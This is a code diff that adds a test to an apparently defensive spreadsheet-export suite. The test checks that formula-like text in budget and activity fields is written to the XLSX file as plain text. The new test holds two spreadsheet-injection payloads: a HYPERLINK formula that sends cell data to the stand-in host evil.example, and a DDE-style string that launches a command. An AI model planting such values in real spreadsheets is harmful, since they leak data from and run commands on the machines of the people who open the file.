@@ -214,6 +214,18 @@ class TestExports:
         assert lines[2][11] == 500
         assert ("Overall", 650, 0, 650) in list(workbook["Totals"].iter_rows(values_only=True))
 
+    def test_the_spreadsheet_writes_formula_like_text_as_text(self, as_user, ready_proposal, author):
+        hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+        ready_proposal.budget_lines.filter(description="Hall for the performance").update(description=hostile)
+        ready_proposal.activities.update(title="@SUM(1+1)*cmd|' /C calc'!A0")
+        response = as_user(author).get(url("budget_export_xlsx", ready_proposal.pk))
+        workbook = load_workbook(io.BytesIO(response.content))
+        written = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        assert [cell.coordinate for cell in written if cell.data_type == "f"] == []
+        lines = list(workbook["Budget lines"].iter_rows(values_only=True))
+        assert lines[1][2] == hostile
+        assert lines[1][1] == "@SUM(1+1)*cmd|' /C calc'!A0"
+
     def test_the_print_view_has_no_buttons(self, as_user, ready_proposal, author):
         html = as_user(author).get(url("budget_print", ready_proposal.pk)).content.decode()
         assert '<main id="main" tabindex="-1" class="print-view">' in html
